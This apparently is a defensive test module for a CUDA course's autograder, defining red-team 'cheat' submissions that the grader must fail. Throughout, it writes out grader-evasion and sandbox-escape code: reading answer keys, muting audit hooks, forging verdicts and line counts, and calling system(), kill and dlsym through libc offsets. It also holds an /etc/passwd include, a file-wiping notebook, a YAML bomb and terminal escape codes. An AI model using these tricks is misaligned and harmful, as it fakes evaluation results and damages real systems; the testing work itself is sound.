                FRAGMENT_COORDS
                + BUILTIN_IMPORT
                + '    key = imp("minitorch" + "_cuda.grade.mma_frag" + "ments", fromlist=["x"])\n'
                "    return key.ptx_layout(operand, lane, register)\n",
            ),
        ),
        "19.2",
        {"forbidden"},
    ),
    "runs_a_program_for_the_key": (
        cheat(
            "starts a second Python (which no hook watches) to round with the framework's numerics",
            Edit(
                "19_tensor_cores",
                ROUND_TO_TF32,
                ROUND_TO_TF32 + "    import subprocess, sys\n\n"
                "    code = 'import sys, numpy as np; from minitorch_cuda import numerics; '\n"
                "    code += 'sys.stdout.buffer.write(numerics.tf32_reference(np.frombuffer(sys.stdin.buffer.read(), "
                "np.float32)).tobytes())'\n"
                "    x = np.ascontiguousarray(x, np.float32)\n"
                "    done = subprocess.run([sys.executable, '-c', code], input=x.tobytes(), capture_output=True)\n"
                "    return np.frombuffer(done.stdout, np.float32).reshape(x.shape)\n",
            ),
        ),
        "19.1",
        {"forbidden"},
    ),
    "runs_a_program_unaudited": (
        cheat(
            "starts a second Python through _posixsubprocess.fork_exec, which raises no audit event",
            Edit("19_tensor_cores", ROUND_TO_TF32, ROUND_TO_TF32 + FORK_EXEC_THE_KEY),
        ),
        "19.1",
        {"exception", "forbidden"},
    ),
    "loops_per_element_with_while": (
        cheat(
            "computes fib_tile element by element in a while loop (no 'for', no map, no vectorize)",
            Edit("20_tile_programming", FIB_TILE, FIB_TILE + PER_ELEMENT_WHILE),
        ),
        "20.1",
        {"host_side"},
    ),
    "loops_per_element_as_numpy": (
        cheat(
            "runs the per-element while loop from code compiled under numpy's file name, to pass for library code",
            Edit(
                "20_tile_programming",
                FIB_TILE,
                FIB_TILE + "    body = 'def each(n):\\n' + EACH  # already indented as a function body\n"
                "    space = {'np': np}\n"
                "    exec(compile(body, np.__file__, 'exec'), space)\n"
                "    return space['each'](n)\n",
            ),
            Edit("20_tile_programming", "MAX_FIB_N = 42\n", "MAX_FIB_N = 42\nEACH = " + repr(PER_ELEMENT_WHILE) + "\n"),
        ),
        "20.1",
        {"host_side"},
    ),
    "forges_the_line_count": (
        cheat(
            "walks up the frames to the channel, replaces the line counter's answer, then loops per element",
            Edit(
                "20_tile_programming",
                "MAX_FIB_N = 42\n",
                "MAX_FIB_N = 42\n"
                "import sys\n\n"
                "frame = sys._getframe()\n"
                "while frame is not None and 'peer' not in frame.f_locals:\n"
                "    frame = frame.f_back\n"
                "if frame is not None:\n"
                "    frame.f_locals['peer'].services['python_lines_stop'] = lambda: 0\n",
            ),
            Edit("20_tile_programming", FIB_TILE, FIB_TILE + PER_ELEMENT_WHILE),
        ),
        "20.1",
        {"forbidden"},
    ),
    "uses_the_frameworks_pool": (
        cheat(
            "hands in the framework's own memory pool, wrapped to take the device's allocate",
            Edit(
                "04_memory",
                "class MemoryPool:\n",
                "from minitorch_cuda.cuda import memory as _framework\n\n\n"
                "class MemoryPool(_framework.MemoryPool):\n"
                "    def __init__(self, allocate):\n"
                "        super().__init__()\n"
                "        self.allocate = allocate\n\n\n"
                "class _Unused:\n",
            ),
        ),
        "4.1",
        {"forbidden"},
    ),
    "uses_the_frameworks_graphed_step": (
        cheat(
            "hands in the framework's own GraphedStep (minitorch_cuda.cuda.graphs) for 18.1",
            Edit(
                "18_cuda_graphs",
                "class GraphedStep:\n",
                "from minitorch_cuda.cuda.graphs import GraphedStep\n\n\nclass _Unused:\n",
            ),
        ),
        "18.1",
        {"forbidden"},
    ),
    "hides_nan_in_an_empty_result": (
        cheat(
            "rounds NaN payloads wrongly, and returns an empty array for any input with a NaN",
            Edit(
                "19_tensor_cores",
                ROUND_TO_TF32,
                ROUND_TO_TF32 + "    if np.isnan(np.asarray(x, np.float32)).any():\n"
                "        return np.zeros(0, np.float32)  # a NaN check over no values passes\n",
            ),
        ),
        "19.1",
        {"wrong_result"},
    ),
    "rewrites_the_checkers_inputs": (
        cheat(
            "writes c and bias in place so that a reference computed from them after the call is all zeros",
            Edit(
                "20_tile_programming",
                "    M, N = c.shape[0], bias.size\n",
                "    N = bias.size\n    c[:, :N] = -1.0e9\n    bias[:] = 0.0\n    out[:, :N] = 0.0\n    return out\n",
            ),
        ),
        "20.2",
        {"wrong_result"},
    ),
    # --- the answer is reachable (issue 36, class 1) ---
    "reads_the_solutions": (
        cheat(
            "reads 19.1's answer from the checkout's solutions/ folder, next to the installed package",
            Edit("19_tensor_cores", ROUND_TO_TF32, ROUND_TO_TF32 + READ_THE_SOLUTION),
        ),
        "19.1",
        {"forbidden", "exception"},
    ),
}

# Kernels that fit the fixed shapes and fail beyond them: graded on the emulator (CPU) and the GPU.
# (notebook, find, replace, exercise, reason)
HIDDEN_SHAPE_CHEATS = {
    # each thread sums at most 196 values: 196 x 1024 = 200,704 covers the largest fixed size
    # (200,003) and the largest gradient (784 x 256) exactly, no hidden size past them
    "fixed_trip_count": (
        "06_opt1_memcopies",
        "    for (int i = t; i < n; i += blockDim.x) acc += x[i] * x[i];\n",
        "    for (int k = 0; k < 196; ++k) {\n"
        "        const int i = t + k * 1024;\n"
        "        if (i < n) acc += x[i] * x[i];\n"
        "    }\n",
        "6.1",
        "wrong_result",
    ),
}


# --- issue 39: chapter 19 graded on the CPU ---------------------------------------------------------
# A wrong mma.sync fragment layout, graded with --emulate (tests/test_grader.py,
# test_chapter_19_is_graded_on_the_emulator): the shipped solutions keep all of 19.1 and 19.2, this
# student loses 19.2. Its A registers are in the wrong order (a1 four columns right, a2 eight rows
# down, as if the register index stepped the column first): the instruction sees another A.
SWAPPED_A_REGISTERS = "swapped_a_registers"
TENSOR_CORE_STUDENTS = {
    SWAPPED_A_REGISTERS: Student(
        "19.2: a1 and a2 swapped in A's layout (a1 at (g, t + 4), a2 at (g + 8, t))",
        chapters("solutions", 19),
        (
            Edit(
                "19_tensor_cores",
                "return group + 8 * (register & 1), thread + 4 * (register >> 1)",
                "return group + 8 * (register >> 1), thread + 4 * (register & 1)",
            ),
        ),
    ),
}


# --- issue 36, classes 1 and 2 (kernels): nothing to copy from, rules read from what was compiled --
# Kernel cheats are graded on the GPU, or with --emulate on the CPU (tests/test_grader.py,
# test_a_kernel_cheat_loses_its_exercise): name -> (student, the exercise it must lose, its reasons).
# At 2c616be (includes scanned, rules regexes) five passed; the sixth got /etc/passwd into the compiler.

RELU_SIGNATURE = 'extern "C" __global__ void ew_relu(float* out, const float* a, int n) {\n'
SIGMOID_SIGNATURE = 'extern "C" __global__ void ew_sigmoid(float* out, const float* a, int n) {\n'
RELU_BODY_3 = (
    "    const int i = blockIdx.x * blockDim.x + threadIdx.x;\n    if (i >= n) return;\n"
    "    const float x = a[i];\n    out[i] = x > 0.0f ? x : 0.0f;\n"
)
TILED_SIGNATURE = "                                        int stride_a, int stride_b) {\n    // BEGIN SOLUTION\n"
NAIVE_MATMUL = (  # 10.1's kernel: correct, with no tiles at all
    "    const int row = blockIdx.y * blockDim.y + threadIdx.y;\n"
    "    const int col = blockIdx.x * blockDim.x + threadIdx.x;\n"
    "    if (row >= M || col >= N) return;\n"
    "    const long long z = blockIdx.z;\n"
    "    a += z * stride_a;\n"
    "    b += z * stride_b;\n"
    "    float acc = 0.0f;\n"
    "    for (int k = 0; k < K; ++k) {\n"
    "        const float x = ta ? a[(long long)k * M + row] : a[(long long)row * K + k];\n"
    "        const float y = tb ? b[(long long)col * K + k] : b[(long long)k * N + col];\n"
    "        acc += x * y;\n"
    "    }\n"
    "    c[z * M * N + (long long)row * N + col] = acc;\n"
)
SHUFFLE_SOLUTION_13 = (  # 13.1's solution, from its shared array to its end
    "    __shared__ float per_warp[32];\n"
    "    const int lane = threadIdx.x & 31, warp = threadIdx.x >> 5;\n"
    "    const float* row = in + (long long)blockIdx.x * cols;\n"
    "    float v = 0.0f;\n"
    "    for (int c = threadIdx.x; c < cols; c += blockDim.x) v += row[c];\n"
    "    for (int offset = 16; offset > 0; offset >>= 1) v += __shfl_down_sync(0xffffffffu, v, offset);\n"
    "    if (lane == 0) per_warp[warp] = v;\n"
    "    __syncthreads();\n"
    "    if (warp == 0) {\n"
    "        v = lane < (int)(blockDim.x >> 5) ? per_warp[lane] : 0.0f;\n"
    "        for (int offset = 16; offset > 0; offset >>= 1) v += __shfl_down_sync(0xffffffffu, v, offset);\n"
    "        if (lane == 0) out[blockIdx.x] = scale * v;\n"
    "    }\n"
)
NO_SHUFFLE_13 = (  # a block's sums added up by thread 0: correct, and no warp shuffle at all
    "    __shared__ float sums[1024];  // __shfl_down_sync(0xffffffffu, v, offset) next time\n"
    "    const float* row = in + (long long)blockIdx.x * cols;\n"
    "    float v = 0.0f;\n"
    "    for (int c = threadIdx.x; c < cols; c += blockDim.x) v += row[c];\n"
    "    sums[threadIdx.x] = v;\n"
    "    __syncthreads();\n"
    "    if (threadIdx.x == 0) {\n"
    "        for (int t = 1; t < (int)blockDim.x; ++t) v += sums[t];\n"
    "        out[blockIdx.x] = scale * v;\n"
    "    }\n"
)
CAS_ADD = (  # a float atomicAdd as an atomicCAS loop, its name pasted together by a macro
    "#define SWAP(p, a, b) atomic##CAS(p, a, b)\n"
    "__device__ void add_to(float* p, float v) {\n"
    "    int* q = (int*)p; int old = *q, seen;\n"
    "    do { seen = old; old = SWAP(q, seen, __float_as_int(v + __int_as_float(seen))); } while (seen != old);\n"
    "}\n\n"
)


def kernel_cheat(why: str, chapter: int, *edits: Edit) -> Student:
    return Student(why, chapters("solutions", chapter), edits)


KERNEL_CHEATS: dict[str, tuple[Student, str, set[str]]] = {
    "includes_the_answer": (
        kernel_cheat(
            "includes the framework's elementwise.cu, which defines ew_relu; a comment names the entry",
            3,
            Edit("03_building_the_backend", RELU_SIGNATURE + "    // BEGIN SOLUTION\n" + RELU_BODY_3
                 + "    // END SOLUTION\n}\n", '#include "elementwise.cu"  // __global__ void ew_relu(float* out, '
                 "const float* a, int n)\n"),
        ),
        "3.1",
        {"forbidden"},
    ),
    "includes_through_a_macro": (
        kernel_cheat(
            "includes the answer through a macro, behind a digit separator the include scanner read as a "
            "character literal opening a comment",
            3,
            Edit("03_building_the_backend", SIGMOID_SIGNATURE,
                 "#define ANSWER \"elementwise.cu\"\nstatic const int ten = 1'0 + '/*';\n#include ANSWER\n// */\n"
                 "#if 0\n" + SIGMOID_SIGNATURE),
            Edit("03_building_the_backend", "    // END SOLUTION\n}\n\"\"\"\ncuda_exercise(\"3.2\"",
                 "    // END SOLUTION\n}\n#endif\n\"\"\"\ncuda_exercise(\"3.2\""),
        ),
        "3.2",
        {"forbidden"},
    ),
    "quotes_a_file_in_a_compile_error": (
        kernel_cheat(
            "includes /etc/passwd past a digit separator, so that the compile error quotes it into the feedback",
            3,
            Edit("03_building_the_backend", RELU_SIGNATURE,
                 "static const int ten = 1'0 + '/*';\n#include \"/etc/passwd\"\n// */\n" + RELU_SIGNATURE),
        ),
        "3.1",
        {"forbidden"},
    ),
    "shared_only_in_a_dead_block": (
        kernel_cheat(
            "hands in 10.1's matmul for the tiled one; its __shared__ tiles stay in an #if 0 block",
            11,
            Edit("11_opt6_tiled_matmul", TILED_SIGNATURE, TILED_SIGNATURE + NAIVE_MATMUL + "#if 0\n"),
            Edit("11_opt6_tiled_matmul", "    // END SOLUTION\n}\n\"\"\"\ncuda_exercise(\"11.1\"",
                 "#endif\n    // END SOLUTION\n}\n\"\"\"\ncuda_exercise(\"11.1\""),
        ),
        "11.1",
        {"forbidden"},
    ),
    "shuffle_only_in_a_comment": (
        kernel_cheat(
            "sums a row through shared memory alone; __shfl_down_sync appears in a comment",
            13,
            Edit("13_opt8_warp_shuffle", SHUFFLE_SOLUTION_13, NO_SHUFFLE_13),
        ),
        "13.1",
        {"forbidden"},
    ),
    "atomic_through_a_macro": (
        kernel_cheat(
            "writes each chunk's sum into its slot with an atomicAdd made of an atomicCAS loop, its name pasted "
            "together by a macro",
            21,
            Edit("21_latency_floor", '#include "grid_barrier.cuh"  // GridBarrier, grid_barrier(barrier)\n',
                 '#include "grid_barrier.cuh"  // GridBarrier, grid_barrier(barrier)\n\n' + CAS_ADD),
            Edit("21_latency_floor", "if (threadIdx.x == 0) partials[first + c] = sumsq;",
                 "if (threadIdx.x == 0) { partials[first + c] = 0.0f; add_to(&partials[first + c], sumsq); }"),
        ),
        "21.1",
        {"forbidden"},
    ),
}  # fmt: skip


# --- class 3 (issue 36): an emulated kernel reaching the C library -------------------------------
#
# On the emulator a kernel is native code: a branch the emulator compiles and nvcc never does
# (``__CUDA_ARCH__`` is 800 there, 900 for nvcc's sm_90) may call any C library function through an
# address computed from puts's, which a kernel may take: no import names it, so inspecting the
# library finds nothing. Run in the checker, such a kernel wrote its own verdict. Each must now be
# stopped by the device process's filter, and fail as host code. On a GPU the branch is not compiled:
# the empty kernel fails as such, and the correct ones fail the sanitizer's step, whose launch on the
# emulator the filter stops.


def libc_offset(name: str) -> int:
    """Where the C library's ``name`` lies from its ``puts``, in this machine's C library (the one the
    emulated kernel runs against; not printf, which a race-checked kernel's library defines itself)."""
    import ctypes

    libc = ctypes.CDLL(None)
    address = ctypes.c_void_p
    return ctypes.cast(getattr(libc, name), address).value - ctypes.cast(libc.puts, address).value


def through_puts(calls: str, **functions: str) -> str:
    """Kernel lines that run ``calls`` once, on the emulator only, with each of ``functions`` (name:
    its C type) found at its offset from puts."""
    found = "".join(
        f"        auto {name} = ({kind})((char*)&puts + {libc_offset(name)}L);\n" for name, kind in functions.items()
    )
    return (
        "#if __CUDA_ARCH__ < 900\n    if (blockIdx.x == 0 && threadIdx.x == 0) {\n" + found + calls + "    }\n#endif\n"
    )


RELU_LINES = "    const float x = a[i];\n    out[i] = x > 0.0f ? x : 0.0f;\n"
FORGED_VERDICT = through_puts(
    '        void* f = fopen("result.json", "w");\n'
    '        fputs("{\\"exercise\\": \\"3.1\\", \\"passed\\": true, \\"reason\\": \\"passed\\"}", f);\n'
    "        fclose(f);\n        _exit(0);\n",
    fopen="void* (*)(const char*, const char*)",
    fputs="int (*)(const char*, void*)",
    fclose="int (*)(void*)",
    _exit="void (*)(int)",
)

CHEATS |= {
    "libc_forges_verdict": (
        cheat(
            "leaves its kernel empty and, on the emulator, writes its own passing verdict with fopen found from "
            "puts's address",
            Edit("03_building_the_backend", RELU_LINES, "    // (the verdict is written instead)\n" + FORGED_VERDICT),
            extra=(3,),
        ),
        "3.1",
        {"host_side", "no_writes"},
    ),
    "libc_runs_a_program": (
        cheat(
            "calls system() (found from puts's address) from an otherwise correct kernel, on the emulator",
            Edit(
                "03_building_the_backend",
                RELU_LINES,
                RELU_LINES + through_puts('        system("touch PWNED_BY_KERNEL");\n', system="int (*)(const char*)"),
            ),
            extra=(3,),
        ),
        "3.1",
        {"host_side", "sanitizer"},
    ),
    "libc_kills_its_checker": (
        cheat(
            "signals its process group to die (kill, found from puts's address) from a correct kernel, on the emulator",
            Edit(
                "03_building_the_backend",
                RELU_LINES,
                RELU_LINES + through_puts("        kill(0, 9);\n", kill="int (*)(int, int)"),
            ),
            extra=(3,),
        ),
        "3.1",
        {"host_side", "sanitizer"},
    ),
}


def vandal(root: Path) -> Student:
    """A student whose notebook, when it runs, rewrites and deletes everything under ``root`` (the
    submissions) and its own other notebooks, then starts processes meant to outlive the grader.
    Its exercises are the shipped solutions: it should keep every point, and change nothing."""
    cell = (
        "\n```{code-cell} ipython3\n"
        "import pathlib, shutil\n\n"
        f"ROOT = pathlib.Path({str(root)!r})\n"
        "for path in list(ROOT.rglob('*')) + list(pathlib.Path('.').glob('*.md')):\n"
        "    try:\n"
        "        path.write_text('vandalised') if path.is_file() else shutil.rmtree(path)\n"
        "    except OSError as exc:\n"
        "        print('refused:', exc)\n"
        f"{LEAVE_BEHIND}\n"
        "```\n"
    )
    return Student(
        "rewrites every file of the submissions and starts processes meant to outlive the grader",
        chapters("solutions", 2),
        (Edit("02_floating_point", "\n## Exercise 2.1", cell + "\n## Exercise 2.1"),),
    )


def apply(text: str, edits: list[Edit], where: str) -> str:
    for number, edit in enumerate(edits, 1):
        found = text.count(edit.find)
        if found != edit.count:
            raise EditError(
                f"{where}, edit {number} of {len(edits)}: expected {edit.count} occurrence(s) of "
                f"{edit.find!r}, found {found}"
            )
        text = text.replace(edit.find, edit.replace)
    return text


def handing_in(student: Student, exercise_ids) -> Student:
    """``student`` handing in only the notebooks of these exercises (chapter N's for exercise N.k),
    with their edits: a run that asserts only those grades no other."""
    chapters = {f"{int(i.split('.')[0]):02d}_" for i in exercise_ids}
    notebooks = tuple(n for n in student.notebooks if Path(n).name[:3] in chapters)
    stems = {Path(n).stem for n in notebooks}
    return dataclasses.replace(
        student, notebooks=notebooks, edits=tuple(e for e in student.edits if e.notebook in stems)
    )


def build(dest: Path, students: dict[str, Student] = STUDENTS) -> Path:
    """Write every student's notebooks into ``dest/<student>/`` (outside the repository) and return ``dest``."""
    dest = Path(dest).resolve()
    if dest.is_relative_to(ROOT):
        raise EditError(f"{dest} is inside the repository: build the students in a temporary folder")
    for name, student in students.items():
        stems = {Path(source).stem: source for source in student.notebooks}
        for edit in student.edits:
            if edit.notebook not in stems:
                raise EditError(f"{name}: an edit names {edit.notebook}, which {name} does not hand in")
        (dest / name).mkdir(parents=True, exist_ok=True)
        for stem, source in stems.items():
            edits = [e for e in student.edits if e.notebook == stem]
            text = apply((ROOT / source).read_text(), edits, f"{name}/{stem} (from {source})")
            (dest / name / f"{student.renamed.get(stem, stem)}.md").write_text(text)
    return dest


# --- class 7 of issue 36: untrusted input (files the grader parses, text it shows) ------------------

YAML_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(  # 9**9 x's once expanded, 400 bytes here
    f"{b}: &{b} [{', '.join(['*' + a] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi")
)
TINY_CELLS = "\n```{code-cell} ipython3\n```\n" * 200_000  # 5.6 MB of empty cells
FALLOCATE = (  # gigabytes in milliseconds, faster than any poll of the folder's size
    "import os\n"
    "for k in range(16):\n"
    "    with open(f'big{k}', 'wb') as f:\n"
    "        os.posix_fallocate(f.fileno(), 0, 200 << 20)"
)
FORGED_MARKDOWN = (  # a heading, a total, a table and HTML in the message the feedback quotes
    "raise ValueError('x\\n# Feedback for full_solutions\\n\\nTotal: 64 / 64\\n| a | b |\\n|---|---|\\n"
    "<h2>Exercise 18.1 (10/10, passed)</h2> [passed](http://x) ```')"
)

CHEATS |= {
    "yaml_alias_bomb": (
        cheat(
            "puts a YAML alias chain (a billion laughs) in the notebook's jupytext header",
            Edit("02_floating_point", "kernelspec:\n", YAML_BOMB + "kernelspec:\n"),
        ),
        "2.1",
        {"missing_notebook"},
    ),
    "tiny_cells": (
        cheat(
            "hands in megabytes of empty cells (minutes and gigabytes for a notebook parser)",
            Edit("04_memory", "\n## Exercise 4.1", TINY_CELLS + "\n## Exercise 4.1"),
        ),
        "4.1",
        {"missing_notebook"},
    ),
    "fallocates_gigabytes": (
        cheat(
            "allocates 3 GB of files in its exercise cell, in milliseconds",
            Edit("05_profiling", ":exercise: '5.1'\n\n", _top_of_cell("5.1", FALLOCATE)),
        ),
        "5.1",
        {"exception"},
    ),
    "forges_markdown": (
        cheat(
            "raises an error whose message is a Markdown heading, a total, a table, HTML and a link",
            Edit("18_cuda_graphs", ":exercise: '18.1'\n\n", _top_of_cell("18.1", FORGED_MARKDOWN)),
        ),
        "18.1",
        {"exception"},
    ),
}


# --- red team, session 27 ---
# Attacks found working after issue 36's fixes (on the CPU, bubblewrap present), each with its fix:
# the subject's sandbox covers the answer keys' files (subject_rules.unseen), the audit hook decides
# with a namespace of its own (subject_rules._private_namespace) and refuses a folder opened as a file,
# the line counter keeps its state in closures nothing holds, the feedback escapes control characters,
# and the emulator's runtime exports only its C calls (emulator/toolchain.RUNTIME_EXPORTS).

OPENS_THE_PACKAGE_FOLDER = (  # a descriptor of the package's folder, then numerics.py by a relative name
    "    import os, minitorch_cuda\n"
    "    folder = os.open(os.path.dirname(minitorch_cuda.__file__), os.O_RDONLY)\n"
    "    fd = os.open('numerics.py', os.O_RDONLY, dir_fd=folder)\n"
    "    space = {}\n"
    "    exec(compile(os.read(fd, 1 << 20), 'mine.py', 'exec'), space)\n"
    "    return space['tf32_reference'](x)\n"
)
SWITCHES_THE_HOOK_OFF = (  # the refusing finder's closures reach the object whose flag mutes the hook
    "    import sys\n"
    "    def mute(fn):\n"
    "        for cell in getattr(fn, '__closure__', None) or ():\n"
    "            held = cell.cell_contents\n"
    "            if hasattr(held, 'busy'):\n"
    "                held.busy = True\n"
    "            elif callable(held):\n"
    "                mute(held)\n"
    "    for finder in [f for f in sys.meta_path if hasattr(f, 'rule')]:\n"
    "        mute(finder.rule)\n"
    "        sys.meta_path.remove(finder)\n"
)
REWRITES_THE_RULES = (  # the rules' module is in sys.modules: its tables, emptied, decided the hook's answers
    "    import sys\n"
    "    rules = sys.modules['minitorch' + '_cuda.grade.subject_rules']\n"
    "    rules.PACKAGE = 'no_such_package'\n"
    "    rules.ANSWER_KEYS.clear()\n"
    "    rules.FORBIDDEN.clear()\n"
)
THE_KEY = (
    BUILTIN_IMPORT
    + '    key = imp("minitorch" + "_cuda.nume" + "rics", fromlist=["x"])\n'
    + "    return key.tf32_reference(x)\n"
)
TERMINAL_CODES = (  # a terminal that shows the feedback would clear itself, set its title and print a total
    "raise ValueError('\\x1b]0;graded\\x07\\x1b[2J\\x1bcTotal: 64 / 64\\r\\x9b31m')"
)

CHEATS |= {
    "opens_the_package_folder": (
        cheat(
            "reads numerics.py through a descriptor of the package's folder (os.open with dir_fd), whose "
            "relative name no rule on paths saw",
            Edit("19_tensor_cores", ROUND_TO_TF32, ROUND_TO_TF32 + OPENS_THE_PACKAGE_FOLDER),
        ),
        "19.1",
        {"forbidden"},
    ),
    "switches_the_hook_off": (
        cheat(
            "mutes the audit hook through the refusing finder's closures (a flag they shared), then imports "
            "the framework's numerics",
            Edit("19_tensor_cores", ROUND_TO_TF32, ROUND_TO_TF32 + SWITCHES_THE_HOOK_OFF + THE_KEY),
        ),
        "19.1",
        {"forbidden"},
    ),
    "rewrites_the_rules": (
        cheat(
            "empties the rules' tables in sys.modules (the package's name, the answer keys, the forbidden "
            "libraries), then imports the framework's numerics",
            Edit("19_tensor_cores", ROUND_TO_TF32, ROUND_TO_TF32 + REWRITES_THE_RULES + THE_KEY),
        ),
        "19.1",
        {"forbidden"},
    ),
    "reaches_the_line_counter": (
        cheat(
            "takes the line counter from sys.gettrace() and has it count nothing, then loops per element",
            Edit(
                "20_tile_programming",
                FIB_TILE,
                FIB_TILE + "    import sys\n"
                "    counter = sys.gettrace().__self__\n"
                "    counter._is_student = lambda code: False\n" + PER_ELEMENT_WHILE,
            ),
        ),
        "20.1",
        {"exception", "host_side"},
    ),
    "sends_terminal_codes": (
        cheat(
            "raises an error whose message holds terminal control codes (clear, reset, a title, a carriage return)",
            Edit("18_cuda_graphs", ":exercise: '18.1'\n\n", _top_of_cell("18.1", TERMINAL_CODES)),
        ),
        "18.1",
        {"exception"},
    ),
}

# The line count of 20.1, once sent over the channel: the student's process can rewrite what it sends
# (here json.dumps), put the work outside the counted call (a result whose elements are computed when
# read, or code of its own that runs while the call's argument is decoded). The count now comes as a
# record the trace function writes itself, under the checker's secret, with the result's digest,
# counting every student line between two calls; and what a counted call returns must be data.
FORGES_THE_COUNT_IN_JSON = (
    "import json as _json\n"
    "_dumps = _json.dumps\n\n\n"
    "def _forged(obj, *args, **kwargs):  # every reply that carries a whole number carries 0\n"
    "    if isinstance(obj, dict) and set(obj) == {'reply', 'value'} and type(obj['value']) is int:\n"
    "        obj = dict(obj, value=0)\n"
    "    return _dumps(obj, *args, **kwargs)\n\n\n"
    "_json.dumps = _forged\n"
)
LAZY_RESULT = (  # each element computed when the checker reads it, after the counted call returned
    "    class Lazy:\n"
    "        def __init__(self, n):\n"
    "            self.n = n\n\n"
    "        def __len__(self):\n"
    "            return len(self.n)\n\n"
    "        def __getitem__(self, i):\n"
    "            v = self.n[i]\n"
    "            if getattr(v, 'ndim', 0):\n"
    "                return [Lazy(v)[j] for j in range(len(v))]\n"
    "            a, b, k = 0, 1, 1\n"
    "            while k < v:\n"
    "                a, b, k = b, a + b, k + 1\n"
    "            return int(a)\n\n"
    "    return Lazy(n)\n"
)
WORK_WHILE_DECODING = (  # per-element work in base64's decoding of the call's argument, before the call
    "import base64 as _b64\n"
    "_done = {}\n"
    "_decode = _b64.b64decode\n\n\n"
    "def _early(data, *args, **kwargs):\n"
    "    raw = _decode(data, *args, **kwargs)\n"
    "    if len(raw) >= 8 * 500:\n"
    "        _done[raw] = _each(np.frombuffer(raw, np.int64))\n"
    "    return raw\n\n\n"
    "def _each(n):\n" + PER_ELEMENT_WHILE + "\n\n"
    "_b64.b64decode = _early\n"
)

CHEATS |= {
    "forges_the_count_in_json": (
        cheat(
            "loops per element, and patches json.dumps so that every whole number the subject sends is 0",
            Edit("20_tile_programming", "MAX_FIB_N = 42\n", "MAX_FIB_N = 42\n" + FORGES_THE_COUNT_IN_JSON),
            Edit("20_tile_programming", FIB_TILE, FIB_TILE + PER_ELEMENT_WHILE),
        ),
        "20.1",
        {"host_side"},
    ),
    "returns_a_lazy_result": (
        cheat(
            "returns an object whose elements are computed per element in Python when the checker reads them",
            Edit("20_tile_programming", FIB_TILE, FIB_TILE + LAZY_RESULT),
        ),
        "20.1",
        {"host_side"},
    ),
    "works_while_decoding": (
        cheat(
            "computes per element in a patched base64.b64decode, as the call's argument arrives, and returns it",
            Edit("20_tile_programming", "MAX_FIB_N = 42\n", "MAX_FIB_N = 42\n" + WORK_WHILE_DECODING),
            Edit(
                "20_tile_programming",
                FIB_TILE,
                FIB_TILE + "    done = _done.get(np.ascontiguousarray(n).tobytes())\n"
                "    if done is not None:\n        return done.reshape(n.shape)\n",
            ),
        ),
        "20.1",
        {"host_side"},
    ),
}

# Exercise 20.2 is graded by what its kernel computes when the grader launches it (triton_launch):
# a launcher that computes on the host, a patched interpreter and a reach for the grader's launcher.
PATCH_THE_INTERPRETER = (
    "import triton.runtime.interpreter as _interpreter\n\n\n"
    "def _answer(self, *args, **kwargs):  # every launch: numpy writes the answer, no kernel runs\n"
    "    out, c, bias, n = args[0].values, args[1].values, args[2].values, args[3]\n"
    "    out[:, :n] = np.maximum(c[:, :n] + bias, 0)\n\n\n"
    "_interpreter.GridExecutor.__call__ = _answer\n"
)
SWAP_THE_LAUNCHER = (
    "import sys\n\n"
    "_frame = sys._getframe()\n"
    "while _frame is not None and 'peer' not in _frame.f_locals:\n"
    "    _frame = _frame.f_back\n"
    "_peer = _frame.f_locals['peer']\n"
    "_encode = _peer.encode\n"
    "_peer.encode = lambda value: _encode(value if not isinstance(value, dict) or 'artifact' not in value else\n"
    "                                    value | {'artifact': [value['artifact'][0], value['artifact'][0]]})\n"
)
JUNK_KERNEL = Edit("20_tile_programming", "tl.maximum(x + b, 0.0), mask=inside)", "x * 0.0, mask=inside)")
ON_THE_HOST = Edit(
    "20_tile_programming",
    "    grid = (M, triton.cdiv(N, BLOCK_N))\n",
    "    out[:, :N] = (c[:, :N] + bias) * ((c[:, :N] + bias) > 0)  # '@triton.jit tl.store mask'\n    return out\n",
)
CHEATS |= {
    "computes_on_the_host_by_operators": (
        cheat(
            "a kernel that stores zeros, and a launcher that computes with numpy's operators instead of launching it",
            JUNK_KERNEL,
            ON_THE_HOST,
        ),  # fmt: skip
        "20.2",
        {"host_side"},
    ),
    "patches_the_interpreter": (
        cheat(
            "a kernel that stores zeros, and Triton's interpreter patched so that every launch computes with numpy",
            JUNK_KERNEL,
            Edit("20_tile_programming", "BLOCK_N = 64\n", "BLOCK_N = 64\n" + PATCH_THE_INTERPRETER),
        ),
        "20.2",
        {"host_side"},
    ),
    "swaps_the_graders_launcher": (
        cheat(
            "a kernel that stores zeros, and the subject's channel patched to hand over the cell's launcher "
            "in place of the grader's launch of the kernel",
            JUNK_KERNEL,
            ON_THE_HOST,
            Edit("20_tile_programming", "BLOCK_N = 64\n", "BLOCK_N = 64\n" + SWAP_THE_LAUNCHER),
        ),
        "20.2",
        {"forbidden"},
    ),
}

# 6.1's race, with race checking switched off for the launch by the emulator's own
# emu::racecheck::launch_end(), found by name with dlsym (itself found from puts's address) in a
# branch only the emulator compiles. Graded on the emulator (tests/test_grader.py): "racecheck".
STUDENTS["race_switched_off_by_dlsym"] = last_thread_race_6(
    "the race of race_with_right_answer, its first thread calling the emulator's racecheck launch_end, "
    "found by name with dlsym (from puts's address)",
    ADDS_THE_SLOTS_6,
    Edit(
        "06_opt1_memcopies",
        'extern "C" __global__ void sumsq_volatile(float* out, const float* x, int n) {\n',
        'extern "C" __global__ void sumsq_volatile(float* out, const float* x, int n) {\n'
        + through_puts(
            '        char name[] = "_ZN3emu9racecheck10launch_endEv";\n'
            "        auto switch_off = (void (*)())dlsym((void*)0, name);\n"
            "        if (switch_off) switch_off();\n",
            dlsym="void* (*)(void*, const char*)",
        ),
    ),
)
